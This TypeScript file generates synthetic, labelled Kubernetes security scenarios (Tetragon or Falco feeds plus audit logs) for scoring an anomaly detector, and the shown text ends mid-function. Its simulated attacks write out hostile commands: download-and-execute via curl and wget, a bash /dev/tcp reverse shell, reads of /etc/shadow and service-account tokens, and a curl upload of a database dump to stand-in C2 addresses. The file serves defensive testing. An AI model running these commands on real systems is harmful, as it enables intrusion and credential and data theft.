import { Cluster, controllerUser, KUBECTL_UA, personUser, serviceAccountUser, type AuditRecord, type ExecRecord, type Image, type Pod, type Proc } from "./cluster.ts";
import {
  KUBELET_TOKENS,
  chainTask,
  deploymentPodNaming,
  podDeleted,
  startPod,
  statefulSetPodNaming,
  type AppDef,
  type ContainerDef,
  type PodNaming,
  type RunningPod,
  type Step,
  type Task,
} from "./apps.ts";
import type { Feed, Incident, TypeRule } from "./incidents.ts";
import { Random, K8S_SAFE } from "./random.ts";
import { renderAudit, renderFalco, renderTetragon, type ScenarioFile } from "./render.ts";

export interface ScenarioOptions {
  seed: number;
  /** Which sensor feeds process execs; the audit log comes with both. */
  feed: Feed;
  /** Cluster name the replay gives events that carry none (default "default", as `outlier replay`). */
  cluster?: string;
  /** Learning window in minutes; drawn from the seed (20–40) when absent. */
  learningMinutes?: number;
}

export interface Scenario {
  seed: number;
  feed: Feed;
  cluster: string;
  /** The files, each line one JSON object as the sensor writes it, in time order. */
  files: ScenarioFile[];
  incidents: Incident[];
  /** The baselines' learning window: replay with `--learning-window <this>ms`. */
  learningWindowMs: number;
  startMs: number;
  endMs: number;
  /** Seed-drawn parameters, for a person reading a result. */
  parameters: Record<string, string | number | boolean>;
}

const MIN = 60_000_000;
const SEC = 1_000_000;
const T0 = Date.parse("2026-03-02T08:00:00Z");

/** Everything the classes share while the scenario is being built. */
interface World {
  c: Cluster;
  rng: Random;
  cluster: string;
  learnUs: number;
  endUs: number;
  nodes: string[];
  incidents: PendingIncident[];
  parameters: Record<string, string | number | boolean>;
}

/** An incident whose pods, executables and range may still come from its tagged activity. */
type PendingIncident = Omit<Incident, "binaries" | "pods" | "startMs" | "endMs" | "users"> & {
  binaries?: string[];
  pods?: string[];
  users?: string[];
  startUs?: number;
  endUs?: number;
  /** Fill pods from the tagged activity (attacks). */
  podsFromActivity?: boolean;
};

/**
 * A labelled scenario: one cluster of many workloads, every class of issue 9 in it, as the
 * raw lines of the chosen feed (Tetragon export per node, or Falco alerts) plus the audit
 * log. Pure and deterministic: the same options give the same lines.
 */
export function generateScenario(options: ScenarioOptions): Scenario {
  const rng = new Random(options.seed * 2654435761 + 97);
  const cluster = options.cluster ?? "default";
  const learningMinutes = options.learningMinutes ?? rng.int(20, 40);
  const afterMinutes = rng.int(45, 65);
  const startMs = T0 + rng.int(0, 300) * 86_400_000 + rng.int(0, 86_399) * 1000;
  const nodeCount = rng.int(3, 5);
  const nodeStyle = rng.int(0, 2);
  const nodes = Array.from({ length: nodeCount }, (_, i) =>
    nodeStyle === 0 ? `worker-${"abcdefgh"[i]}` : nodeStyle === 1 ? `ip-10-0-${rng.int(1, 254)}-${rng.int(1, 254)}.eu-west-1.compute.internal` : `gke-prod-pool-1-${rng.hex(8)}-${rng.chars(K8S_SAFE, 4)}`,
  );
  const c = new Cluster(rng.fork(), startMs, nodes, { auditRequestReceived: rng.chance(0.5), falcoLabelField: rng.chance(0.5) ? "k8s.pod.labels" : "k8smeta.pod.labels" });
  const w: World = {
    c,
    rng,
    cluster,
    learnUs: learningMinutes * MIN,
    endUs: (learningMinutes + afterMinutes) * MIN,
    nodes,
    incidents: [],
    parameters: { learningMinutes, afterMinutes, nodes: nodeCount, auditRequestReceived: c.auditRequestReceived, falcoLabelField: c.falcoLabelField },
  };

  // Each class draws from its own stream, so that changing one class leaves the others as they were.
  for (const build of CLASSES) {
    c.rng = rng.fork();
    build({ ...w, rng: rng.fork() });
  }
  addKubeletTokenIncidents(w);

  // Sorted by start only: the sort is stable, and the scorer breaks ties by this order (a
  // workload's own activity before its probes, for findings that name no executable).
  const execsByTag = groupBy(c.execs, (e) => e.proc.tag);
  const requestsByTag = groupBy(c.audit, (r) => r.tag);
  const incidents = w.incidents.map((i) => finishIncident(w, i, execsByTag.get(i.id) ?? [], requestsByTag.get(i.id) ?? [])).sort((a, b) => a.startMs - b.startMs);
  const files = options.feed === "tetragon" ? [...renderTetragon(c), renderAudit(c)] : [renderFalco(c), renderAudit(c)];
  return { seed: options.seed, feed: options.feed, cluster, files, incidents, learningWindowMs: learningMinutes * 60_000, startMs, endMs: startMs + w.endUs / 1000, parameters: w.parameters };
}

/** The kubelets' token requests for the pods they start (apps.ts tags them per namespace). */
function addKubeletTokenIncidents(w: World): void {
  const byTag = new Map<string, Set<string>>();
  for (const r of w.c.audit) if (r.tag?.endsWith(KUBELET_TOKENS)) byTag.set(r.tag, (byTag.get(r.tag) ?? new Set()).add(r.user.username));
  for (const [tag, users] of byTag) {
    const namespace = tag.slice(0, -KUBELET_TOKENS.length);
    w.incidents.push({ id: tag, class: "controller-secrets", kind: "benign", description: `kubelets mint the projected service-account tokens of the pods they start in ${namespace}`, cluster: w.cluster, namespace, users: [...users].sort(), expect: [], allow: [] });
  }
}

function groupBy<T>(items: readonly T[], key: (t: T) => string | undefined): Map<string, T[]> {
  const out = new Map<string, T[]>();
  for (const item of items) {
    const k = key(item);
    if (k === undefined) continue;
    const list = out.get(k);
    if (list) list.push(item);
    else out.set(k, [item]);
  }
  return out;
}

function finishIncident(w: World, p: PendingIncident, execs: ExecRecord[], requests: AuditRecord[]): Incident {
  const times = [...execs.map((e) => e.us), ...requests.map((r) => r.us)];
  const startUs = p.startUs ?? (times.length > 0 ? times.reduce((a, b) => Math.min(a, b)) : 0);
  const endUs = p.endUs ?? (times.length > 0 ? times.reduce((a, b) => Math.max(a, b)) : w.endUs);
  const { podsFromActivity, startUs: _s, endUs: _e, ...rest } = p;
  return {
    ...rest,
    binaries: p.binaries ?? [...new Set(execs.map((e) => e.proc.binary))].sort(),
    pods: p.pods ?? (podsFromActivity ? [...new Set(execs.map((e) => e.proc.pod!.name))].sort() : []),
    users: p.users ?? [],
    startMs: w.c.startMs + Math.floor(startUs / 1000),
    endMs: w.c.startMs + Math.ceil(endUs / 1000),
  };
}

type ClassBuilder = (w: World) => void;

// ---------------------------------------------------------------------------------
// Shared pieces

const ALL_OUTCOMES: TypeRule[] = [{ type: "process.unexpected" }, { type: "replica.deviation" }, { type: "baseline.drift" }, { type: "falco.*" }];

function workloadApp(
  w: World,
  spec: Omit<AppDef, "steadyTag" | "probeTag">,
  steady: { class: string; description: string; allow?: TypeRule[] },
): AppDef {
  const id = `${spec.namespace}/${spec.name}`;
  const app: AppDef = { ...spec, steadyTag: `${id}:${steady.class}`, probeTag: `${id}:exec-probe` };
  w.incidents.push({
    id: app.steadyTag,
    class: steady.class,
    kind: "benign",
    description: steady.description,
    cluster: w.cluster,
    namespace: spec.namespace,
    workload: { kind: spec.kind, name: spec.name },
    expect: [],
    allow: steady.allow ?? [],
    startUs: 0,
    endUs: w.endUs,
  });
  const probes = [...spec.containers].filter((d) => d.probe);
  if (probes.length > 0) {
    w.incidents.push({
      id: app.probeTag,
      class: "exec-probe",
      kind: "benign",
      description: `exec probes of ${id}: ${probes.map((d) => `${d.probe!.steps.map((s) => s[0]).join(" → ")} every ${Math.round(d.probe!.periodUs / SEC)} s`).join("; ")}`,
      cluster: w.cluster,
      namespace: spec.namespace,
      workload: { kind: spec.kind, name: spec.name },
      expect: [],
      allow: [],
      startUs: 0,
      endUs: w.endUs,
    });
  }
  return app;
}

function probePeriod(w: World): number {
  return w.rng.int(5, 15) * SEC;
}

/** Pods placed across the nodes from a random first node (the scheduler spreads replicas). */
function placement(w: World, n: number): string[] {
  const first = w.rng.int(0, w.nodes.length - 1);
  return Array.from({ length: n }, (_, i) => w.nodes[(first + i) % w.nodes.length]!);
}

/** A Deployment's replicas, all started in the first minutes of the scenario (a few seconds apart). */
function startDeployment(w: World, app: AppDef, replicas: number): RunningPod[] {
  const naming = deploymentPodNaming(w.c, app, w.c.rsHash());
  const t = w.rng.int(5, 120) * SEC;
  return placement(w, replicas).map((node, i) => startPod(w.c, app, naming(), node, t + i * w.rng.int(2, 20) * SEC, Infinity, w.endUs));
}

function image(w: World, repository: string, tag: string): Image {
  return w.c.image(repository, tag);
}

function attackIncident(w: World, id: string, cls: string, app: AppDef, description: string, expect: TypeRule[], allow: TypeRule[] = ALL_OUTCOMES): PendingIncident {
  const incident: PendingIncident = {
    id,
    class: cls,
    kind: "attack",
    description,
    cluster: w.cluster,
    namespace: app.namespace,
    workload: { kind: app.kind, name: app.name },
    expect,
    allow,
    podsFromActivity: true,
  };
  w.incidents.push(incident);
  return incident;
}

/** A time after the lock, at least `marginMin` minutes before the end. */
function afterLock(w: World, fromMin = 2, marginMin = 12): number {
  const lo = w.learnUs + fromMin * MIN;
  const hi = Math.max(lo + MIN, w.endUs - marginMin * MIN);
  return w.rng.int(lo / SEC, hi / SEC) * SEC;
}

// ---------------------------------------------------------------------------------
// Attack payloads: what an attacker's foothold runs, and what Falco says about it.

interface Payload {
  name: string;
  /** Runs under `parent` in the pod's container; returns the last process. */
  run(c: Cluster, pod: Pod, container: string, parent: Proc, us: number, uid: number): Proc;
}

function falco(c: Cluster, proc: Proc, us: number, rule: string, priority: "Critical" | "Error" | "Warning" | "Notice", tags: string[], text: string, evtType: string, fdName?: string): void {
  c.falcoAlert({ us, rule, priority, tags, text, proc, evtType, fdName });
}

function dropAndExec(c: Cluster, p: Proc, us: number): void {
  falco(
    c,
    p,
    us,
    "Drop and execute new binary in container",
    "Critical",
    ["maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
    `Executing binary not part of base image (proc_exe=${p.binary} proc_sname=sh gparent=${p.parent?.parent ? base(p.parent.parent.binary) : "<NA>"} evt_type=execve user=${p.uid === 0 ? "root" : "<NA>"} user_uid=${p.uid} process=${base(p.binary)} command=${base(p.binary)} ${p.args})`,
    "execve",
  );
}

function base(path: string): string {
  return path.slice(path.lastIndexOf("/") + 1);
}

const C2 = ["203.0.113.7", "198.51.100.23", "203.0.113.66", "192.0.2.44"];

const PAYLOADS: Payload[] = [
  {
    name: "download-and-run",
    run(c, pod, container, parent, us, uid) {
      const host = c.rng.pick(C2);
      const file = c.rng.pick(["/tmp/x", "/tmp/.x", "/tmp/kworker"]);
      const sh = c.exec(pod, container, us, "/bin/sh", `-c "curl -fsSL http://${host}/x -o ${file}; chmod +x ${file}; ${file}"`, { parent, uid, cwd: "/tmp" });
      c.exec(pod, container, us + 40_000, "/usr/bin/curl", `-fsSL http://${host}/x -o ${file}`, { parent: sh, uid, cwd: "/tmp" });
      c.exec(pod, container, us + 1_900_000, "/bin/chmod", `+x ${file}`, { parent: sh, uid, cwd: "/tmp" });
      const x = c.exec(pod, container, us + 1_950_000, file, "", { parent: sh, uid, cwd: "/tmp" });
      dropAndExec(c, x, us + 1_950_000);
      return x;
    },
  },
  {
    name: "shell-recon",
    run(c, pod, container, parent, us, uid) {
      const sh = c.exec(pod, container, us, "/bin/sh", '-c "id; uname -a; cat /etc/passwd; ls -la /var/run/secrets/kubernetes.io/serviceaccount"', { parent, uid });
      c.exec(pod, container, us + 3_000, "/usr/bin/id", "", { parent: sh, uid });
      c.exec(pod, container, us + 6_000, "/bin/uname", "-a", { parent: sh, uid });
      c.exec(pod, container, us + 9_000, "/bin/cat", "/etc/passwd", { parent: sh, uid });
      return c.exec(pod, container, us + 12_000, "/bin/ls", "-la /var/run/secrets/kubernetes.io/serviceaccount", { parent: sh, uid });
    },
  },
  {
    name: "memfd-loader",
    run(c, pod, container, parent, us, uid) {
      const host = c.rng.pick(C2);
      const sh = c.exec(pod, container, us, "/bin/sh", `-c "wget -q -O /dev/shm/.k http://${host}/k && chmod 755 /dev/shm/.k && /dev/shm/.k"`, { parent, uid });
      c.exec(pod, container, us + 30_000, "/usr/bin/wget", `-q -O /dev/shm/.k http://${host}/k`, { parent: sh, uid });
      c.exec(pod, container, us + 1_400_000, "/bin/chmod", "755 /dev/shm/.k", { parent: sh, uid });
      const k = c.exec(pod, container, us + 1_450_000, "/dev/shm/.k", "", { parent: sh, uid });
      dropAndExec(c, k, us + 1_450_000);
      return k;
    },
  },
];

function reverseShell(c: Cluster, pod: Pod, container: string, parent: Proc, us: number, uid: number): Proc {
  const host = c.rng.pick(C2);
  const port = c.rng.pick([4444, 9001, 443, 8443]);
  const outer = c.exec(pod, container, us, "/bin/bash", `-c "bash -i >& /dev/tcp/${host}/${port} 0>&1"`, { parent, uid });
  const inner = c.exec(pod, container, us + 2_000, "/bin/bash", "-i", { parent: outer, uid });
  falco(
    c,
    inner,
    us + 4_000,
    "Redirect STDOUT/STDIN to Network Connection in Container",
    "Notice",
    ["maturity_stable", "container", "network", "process", "mitre_execution", "T1059"],
    `Redirect stdout/stdin to network connection (gparent=${base(parent.parent?.binary ?? "<NA>")} ggparent=<NA> gggparent=<NA> fd.sip=${host} connection=10.0.3.17:51342->${host}:${port} lport=51342 rport=${port} fd_type=ipv4 fd_proto=tcp evt_type=dup2 user=<NA> user_uid=${uid} process=bash command=bash -i terminal=0)`,
    "dup2",
    `10.0.3.17:51342->${host}:${port}`,
  );
  return inner;
}

// ---------------------------------------------------------------------------------
// Exec sessions (kubectl exec by a person): the audit request, then the processes.

interface SessionSpec {
  pod: Pod;
  container: string;
  user: ReturnType<typeof personUser>;
  us: number;
  /** The command of the exec request (`sh` for an interactive shell), and the executable it runs. */
  command: string[];
  binary: string;
  tty: boolean;
  /** Commands typed in the shell (interactive), with their gap to the previous one. */
  typed: { steps: Step[]; gapUs: number }[];
  durationUs: number;
  uid: number;
}

/** Returns the session's first process (the shell, or the one-off command). */
function execSession(w: World, s: SessionSpec): Proc {
  const { c } = w;
  const p = s.pod;
  const query = [...s.command.map((cmd) => `command=${encodeURIComponent(cmd)}`), `container=${s.container}`, ...(s.tty ? ["stdin=true", "stdout=true", "tty=true"] : ["stderr=true", "stdout=true"])].join("&");
  c.request({
    us: s.us,
    endUs: s.us + s.durationUs,
    verb: "create",
    requestURI: `/api/v1/namespaces/${p.namespace}/pods/${p.name}/exec?${query}`,
    user: s.user,
    sourceIP: "198.51.100.23",
    userAgent: KUBECTL_UA,
    objectRef: { resource: "pods", namespace: p.namespace, name: p.name, apiVersion: "v1", subresource: "exec" },
    code: 101,
    reason: `RBAC: allowed by RoleBinding "developers-exec/${p.namespace}" of ClusterRole "pod-exec" to Group "developers"`,
  });
  const binary = s.binary;
  const tty = s.tty ? 34816 + w.rng.int(0, 8) : undefined;
  const first = c.execIn(p, s.container, s.us + w.rng.int(150_000, 600_000), binary, s.command.slice(1).join(" "), s.uid, tty);
  if (s.tty && first.binary.endsWith("sh")) {
    falco(
      c,
      first,
      first.startUs + 2_000,
      "Terminal shell in container",
      "Notice",
      ["maturity_stable", "container", "shell", "mitre_execution", "T1059"],
      `A shell was spawned in a container with an attached terminal (evt_type=execve user=${s.uid === 0 ? "root" : "<NA>"} user_uid=${s.uid} user_loginuid=-1 process=${base(first.binary)} proc_exepath=${first.binary} parent=runc command=${base(first.binary)} terminal=${tty} exe_flags=EXE_WRITABLE)`,
      "execve",
    );
  }
  let t = first.startUs;
  for (const cmd of s.typed) {
    t += cmd.gapUs;
    const [head, ...rest] = cmd.steps;
    const proc = c.exec(p, s.container, t, head![0], head![1], { parent: first, uid: s.uid, inInitTree: false, tty });
    rest.forEach(([b, a], i) => c.exec(p, s.container, t + (i + 1) * 5_000, b, a, { parent: proc, uid: s.uid, inInitTree: false, tty }));
  }
  return first;
}

const BROWSING: Step[][] = [
  [["/bin/ls", "-la /app"]],
  [["/bin/ps", "aux"]],
  [["/usr/bin/env", ""]],
  [["/bin/df", "-h"]],
  [["/usr/bin/tail", "-n 200 /var/log/app/app.log"]],
  [["/bin/cat", "/app/config/app.yaml"]],
  [["/usr/bin/top", "-b -n 1"]],
  [["/bin/grep", "-i timeout /app/config/app.yaml"]],
  [["/bin/netstat", "-tlnp"]],
];

function browsing(w: World, n: number): { steps: Step[]; gapUs: number }[] {
  return w.rng.shuffle(BROWSING).slice(0, n).map((steps) => ({ steps, gapUs: w.rng.int(4, 90) * SEC }));
}

const SESSION_ALLOW: TypeRule[] = [
  // The session's own process tree only: not the probes, not the application's processes.
  { type: "exec.session", maxSeverity: "medium", max: 1, ownBinariesOnly: true },
  { type: "falco.terminal-shell-in-container", maxSeverity: "medium", max: 1 },
];

function sessionIncident(w: World, id: string, cls: string, app: AppDef, pod: Pod, container: string, user: string, description: string): PendingIncident {
  const incident: PendingIncident = {
    id,
    class: cls,
    kind: "benign",
    description,
    cluster: w.cluster,
    namespace: app.namespace,
    workload: { kind: app.kind, name: app.name },
    pods: [pod.name],
    container,
    users: [user],
    expect: [],
    allow: SESSION_ALLOW,
  };
  w.incidents.push(incident);
  return incident;
}

// ---------------------------------------------------------------------------------
// The classes

/** Leader-elected scheduler: one replica runs the reconcile task at a regular cadence; the leader pod is replaced after the lock and leadership moves. */
const leaderTask: ClassBuilder = (w) => {
  const replicas = w.rng.int(2, 5);
  const periodUs = w.rng.int(20, 120) * SEC;
  const img = image(w, "registry.example.com/billing/invoice-scheduler", `2.${w.rng.int(0, 20)}.${w.rng.int(0, 9)}`);
  const main: ContainerDef = {
    name: "scheduler",
    image: img,
    uid: 10001,
    cwd: "/app",
    start: [
      ["/usr/local/bin/docker-entrypoint.sh", "java -jar /app/scheduler.jar"],
      ["/opt/java/openjdk/bin/java", "-XX:MaxRAMPercentage=75 -jar /app/scheduler.jar"],
    ],
    probe: {
      steps: [
        ["/bin/sh", '-c "curl -fsS http://127.0.0.1:8081/actuator/health/liveness"'],
        ["/usr/bin/curl", "-fsS http://127.0.0.1:8081/actuator/health/liveness"],
      ],
      periodUs: probePeriod(w),
      uid: 10001,
    },
    tasks: [],
  };
  const app = workloadApp(
    w,
    { namespace: "billing", name: "invoice-scheduler", kind: "Deployment", team: "billing", inits: [], containers: [main] },
    {
      class: "leader-task",
      description: `${replicas} replicas; the leader runs /app/bin/reconcile-invoices every ${Math.round(periodUs / SEC)} s; the leader pod is replaced after the lock and leadership moves`,
      allow: [{ type: "*", maxSeverity: "low", max: 1 }],
    },
  );
  const hash = w.c.rsHash();
  const naming = deploymentPodNaming(w.c, app, hash);
  const names: PodNaming[] = Array.from({ length: replicas + 1 }, () => naming());
  const changeUs = afterLock(w, 3, 15);
  const replacementUs = changeUs + w.rng.int(2, 5) * SEC;
  // Leadership: pod 0 until it is deleted; after the lease expires (15 s), another replica, or the replacement.
  const nextLeader = replicas > 1 && w.rng.chance(0.7) ? names[1]!.name : names[replicas]!.name;
  const leaderAt = (us: number): string => (us < changeUs ? names[0]!.name : nextLeader);
  const reconcile: Task = {
    ...chainTask([["/app/bin/reconcile-invoices", "--batch 500 --since 10m"]], periodUs, 2 * SEC, "random", 10001, "/app"),
    only: (pod, us) => pod.name === leaderAt(us) && (us < changeUs || us > changeUs + 15 * SEC),
  };
  const compress: Task = chainTask([["/bin/sh", '-c "gzip -9 /var/log/app/*.log.1"'], ["/bin/gzip", "-9 /var/log/app/scheduler.log.1"]], 10 * MIN, 20 * SEC, "aligned", 10001, "/app");
  main.tasks.push(reconcile, compress);
  const t = w.rng.int(5, 60) * SEC;
  const pods = placement(w, replicas + 1).map((node, i) => {
    if (i === replicas) return startPod(w.c, app, names[i]!, node, replacementUs, Infinity, w.endUs);
    return startPod(w.c, app, names[i]!, node, t + i * w.rng.int(2, 15) * SEC, i === 0 ? changeUs : Infinity, w.endUs);
  });
  const oncall = personUser("oncall@example.com", ["sre"]);
  w.c.tagged(app.steadyTag, () => podDeleted(w.c, pods[0]!.pod, changeUs, { user: oncall, userAgent: KUBECTL_UA, sourceIP: "198.51.100.30" }));
  w.parameters["leader.replicas"] = replicas;
  w.parameters["leader.periodS"] = Math.round(periodUs / SEC);
};

/** PostgreSQL StatefulSet: every member archives WAL and cleans up on its own phase. */
const periodicJitter: ClassBuilder = (w) => {
  const replicas = w.rng.int(2, 5);
  const learnMin = w.learnUs / MIN;
  const maxPeriod = Math.max(5, Math.min(30, Math.floor(learnMin / 1.5)));
  const walMin = w.rng.int(5, maxPeriod);
  const cleanMin = w.rng.int(5, maxPeriod);
  const img = image(w, "docker.io/library/postgres", "16.4");
  const segment = () => `pg_wal/00000001000000${w.rng.hex(2).toUpperCase()}000000${w.rng.hex(2).toUpperCase()}`;
  const wal: Task = {
    periodUs: walMin * MIN,
    jitterUs: Math.round(walMin * MIN * 0.1),
    phase: "random",
    run(c, pod, container, mainProc, us) {
      const seg = segment();
      const sh = c.exec(pod, container, us, "/bin/sh", `-c "pgbackrest --stanza=orders archive-push ${seg}"`, { parent: mainProc, uid: 999, cwd: "/var/lib/postgresql" });
      c.exec(pod, container, us + 15_000, "/usr/bin/pgbackrest", `--stanza=orders archive-push ${seg}`, { parent: sh, uid: 999, cwd: "/var/lib/postgresql" });
    },
  };
  const main: ContainerDef = {
    name: "postgres",
    image: img,
    uid: 999,
    cwd: "/var/lib/postgresql",
    start: [
      ["/usr/local/bin/docker-entrypoint.sh", "postgres"],
      ["/usr/lib/postgresql/16/bin/postgres", "-D /var/lib/postgresql/data -c config_file=/etc/postgresql/postgresql.conf"],
    ],
    probe: { steps: [["/usr/bin/pg_isready", "-U postgres -h 127.0.0.1 -p 5432"]], periodUs: probePeriod(w), uid: 999 },
    tasks: [wal, chainTask([["/usr/local/bin/pg-cleanup", "--older-than 7d --table audit_events"]], cleanMin * MIN, Math.round(cleanMin * MIN * 0.2), "random", 999, "/var/lib/postgresql")],
  };
  const app = workloadApp(
    w,
    { namespace: "shop", name: "orders-db", kind: "StatefulSet", team: "orders", inits: [], containers: [main] },
    { class: "periodic-jitter", description: `${replicas} members; WAL archiving every ${walMin} min and cleanup every ${cleanMin} min, each member on its own phase` },
  );
  const naming = statefulSetPodNaming(app, w.c.rsHash());
  const t = w.rng.int(5, 60) * SEC;
  const pods = placement(w, replicas).map((node, i) => startPod(w.c, app, naming(i), node, t + i * w.rng.int(10, 40) * SEC, Infinity, w.endUs));
  w.parameters["periodic.replicas"] = replicas;
  w.parameters["periodic.walMin"] = walMin;

  // One-off exec session: a developer dumps the schema (benign).
  const target = w.rng.pick(pods).pod;
  const bob = personUser("bob@example.com", ["developers"]);
  const oneOffId = `shop/orders-db:exec-session-oneoff`;
  sessionIncident(w, oneOffId, "exec-session-oneoff", app, target, "postgres", bob.username, `bob runs kubectl exec ${target.name} -- pg_dump --schema-only orders`);
  w.c.tagged(oneOffId, () =>
    execSession(w, { pod: target, container: "postgres", user: bob, us: afterLock(w, 1, 10), command: ["pg_dump", "--schema-only", "orders"], binary: "/usr/bin/pg_dump", tty: false, typed: [], durationUs: w.rng.int(2, 20) * SEC, uid: 999 }),
  );
  // Attack: a person's session reads credentials and moves data out.
  exfilSession(w, app, pods);
};

function exfilSession(w: World, app: AppDef, pods: RunningPod[]): void {
  const target = w.rng.pick(pods).pod;
  const mallory = personUser("mallory@example.com", ["developers"]);
  const id = `${app.namespace}/${app.name}:exec-session-exfil`;
  attackIncident(w, id, "attack:exec-session-exfil", app, `mallory execs into ${target.name}, reads /etc/shadow and the service-account token, uploads a dump with curl -T`, [{ type: "exec.session", minSeverity: "high" }], [
    ...ALL_OUTCOMES,
    { type: "exec.session" },
  ]);
  const us = afterLock(w, 4, 12);
  const host = w.rng.pick(C2);
  const typed = [
    { steps: [["/bin/cat", "/etc/shadow"]] as Step[], gapUs: w.rng.int(5, 30) * SEC },
    { steps: [["/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]] as Step[], gapUs: w.rng.int(5, 30) * SEC },
    { steps: [["/usr/bin/pg_dump", "-Fc -f /tmp/orders.dump orders"]] as Step[], gapUs: w.rng.int(10, 40) * SEC },
    { steps: [["/usr/bin/curl", `-s -T /tmp/orders.dump https://${host}/u/${w.rng.hex(6)}`]] as Step[], gapUs: w.rng.int(20, 90) * SEC },
  ];
  w.c.tagged(id, () => {
    const sh = execSession(w, { pod: target, container: "postgres", user: mallory, us, command: ["sh"], binary: "/bin/sh", tty: true, typed, durationUs: w.rng.int(3, 6) * MIN, uid: 0 });
    const cat = w.c.execs.find((e) => e.proc.tag === id && e.proc.args === "/etc/shadow")!.proc;
    falco(
      w.c,
      cat,
      cat.startUs + 400,
      "Read sensitive file untrusted",
      "Warning",
      ["maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"],
      `Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=runc ggparent=<NA> gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat proc_exepath=/bin/cat parent=${base(sh.binary)} command=cat /etc/shadow terminal=${sh.tty ?? 0})`,
      "openat",
      "/etc/shadow",
    );
  });
}

/** Image-processing workers: a learned binary runs at a low rate on every replica; one replica gets a burst of thousands in a minute. */
const burst: ClassBuilder = (w) => {
  const replicas = w.rng.int(3, 6);
  const img = image(w, "registry.example.com/media/thumbnailer", `1.${w.rng.int(0, 30)}.0`);
  const convert: Task = {
    periodUs: w.rng.int(20, 60) * SEC,
    jitterUs: 10 * SEC,
    phase: "random",
    run(c, pod, container, mainProc, us) {
      const id = c.rng.hex(8);
      c.exec(pod, container, us, "/usr/bin/convert", `/tmp/in/${id}.jpg -resize 320x320 /tmp/out/${id}_thumb.jpg`, { parent: mainProc, uid: 1000, cwd: "/app" });
    },
  };
  const main: ContainerDef = {
    name: "worker",
    image: img,
    uid: 1000,
    cwd: "/app",
    start: [["/usr/local/bin/python3", "-m thumbnailer.worker --concurrency 4"]],
    // The probe runs the application's own interpreter.
    probe: { steps: [["/usr/local/bin/python3", "/app/healthcheck.py --max-queue-age 300"]], periodUs: probePeriod(w), uid: 1000 },
    tasks: [convert],
  };
  const app = workloadApp(
    w,
    { namespace: "media", name: "thumbnailer", kind: "Deployment", team: "media", inits: [], containers: [main] },
    { class: "steady-state", description: `${replicas} workers converting images at a low rate` },
  );
  const pods = startDeployment(w, app, replicas);
  const bursts = [afterLock(w, 2, 10), ...(w.rng.chance(0.5) ? [w.rng.int(5, w.learnUs / MIN - 3) * MIN] : [])];
  bursts.forEach((us, k) => {
    const r = w.rng.pick(pods);
    const n = w.rng.int(1000, 4000);
    const id = `media/thumbnailer:burst-${k}`;
    w.incidents.push({
      id,
      class: "burst",
      kind: "benign",
      description: `${n} runs of /usr/bin/convert on ${r.pod.name} within a minute (${us < w.learnUs ? "learning" : "after the lock"})`,
      cluster: w.cluster,
      namespace: app.namespace,
      workload: { kind: app.kind, name: app.name },
      pods: [r.pod.name],
      expect: [],
      allow: [],
    });
    w.c.tagged(id, () => {
      for (let i = 0; i < n; i++) {
        const t = us + Math.floor((i * 60 * SEC) / n) + w.rng.int(0, 5_000);
        const img = w.rng.hex(8);
        w.c.exec(r.pod, "worker", t, "/usr/bin/convert", `/tmp/in/${img}.jpg -resize 320x320 /tmp/out/${img}_thumb.jpg`, { parent: r.mains.get("worker")!, uid: 1000, cwd: "/app" });
      }
    });
  });
  w.parameters["burst.replicas"] = replicas;
};

/** API gateway: pods are replaced every 8–15 minutes and the HPA scales up after the lock; one replacement pod is attacked soon after it starts. */
const podChurn: ClassBuilder = (w) => {
  const replicas = w.rng.int(3, 4);
  const img = image(w, "registry.example.com/edge/api-gateway", `4.${w.rng.int(0, 9)}.${w.rng.int(0, 9)}`);
  const main: ContainerDef = {
    name: "gateway",
    image: img,
    uid: 65532,
    cwd: "/",
    start: [["/usr/local/bin/gateway", "--config /etc/gateway/config.yaml"]],
    probe: { steps: [["/usr/local/bin/gateway", "healthcheck --port 8080"]], periodUs: probePeriod(w), uid: 65532 },
    tasks: [chainTask([["/bin/sh", "/etc/gateway/hooks/reload-certs.sh"], ["/usr/bin/openssl", "x509 -in /etc/tls/tls.crt -noout -enddate"]], 5 * MIN, 10 * SEC, "aligned", 65532)],
  };
  const app = workloadApp(
    w,
    { namespace: "edge", name: "api-gateway", kind: "Deployment", team: "platform", inits: [], containers: [main] },
    { class: "steady-state", description: `${replicas} gateway replicas, certificate check every 5 min` },
  );
  const hash = w.c.rsHash();
  const naming = deploymentPodNaming(w.c, app, hash);
  const t0 = w.rng.int(5, 60) * SEC;
  // Lifetimes first: a pod's activity is scheduled when it starts.
  interface Slot { naming: PodNaming; node: string; startUs: number; endUs: number }
  const slots: Slot[] = placement(w, replicas).map((node, i) => ({ naming: naming(), node, startUs: t0 + i * w.rng.int(2, 10) * SEC, endUs: Infinity }));
  const churn: { oldIndex: number; newIndex: number; us: number }[] = [];
  for (let us = w.rng.int(6, 12) * MIN; us < w.endUs - 8 * MIN; us += w.rng.int(8, 15) * MIN) {
    const live = slots.map((s, i) => ({ s, i })).filter(({ s }) => s.startUs < us && s.endUs === Infinity);
    const victim = w.rng.pick(live);
    victim.s.endUs = us;
    slots.push({ naming: naming(), node: w.rng.pick(w.nodes), startUs: us + w.rng.int(1, 3) * SEC, endUs: Infinity });
    churn.push({ oldIndex: victim.i, newIndex: slots.length - 1, us });
  }
  const scaleUs = afterLock(w, 2, 20);
  const added = w.rng.int(1, 3);
  const firstAdded = slots.length;
  for (let k = 0; k < added; k++) slots.push({ naming: naming(), node: w.rng.pick(w.nodes), startUs: scaleUs + 3 * SEC + k * w.rng.int(1, 4) * SEC, endUs: Infinity });
  const pods = slots.map((s) => startPod(w.c, app, s.naming, s.node, s.startUs, s.endUs, w.endUs));
  const descheduler = { user: controllerUser("descheduler"), userAgent: "descheduler/v0.31.0", sourceIP: "10.0.0.12" };
  churn.forEach(({ oldIndex, newIndex, us }, k) => {
    w.c.tagged(app.steadyTag, () => podDeleted(w.c, pods[oldIndex]!.pod, us, descheduler));
    w.incidents.push({
      id: `edge/api-gateway:pod-churn-${k}`,
      class: "pod-churn",
      kind: "benign",
      description: `${pods[oldIndex]!.pod.name} evicted, replaced by ${pods[newIndex]!.pod.name}`,
      cluster: w.cluster,
      namespace: app.namespace,
      workload: { kind: app.kind, name: app.name },
      pods: [pods[newIndex]!.pod.name],
      expect: [],
      allow: [],
      startUs: us,
      endUs: us + 10 * MIN,
    });
  });
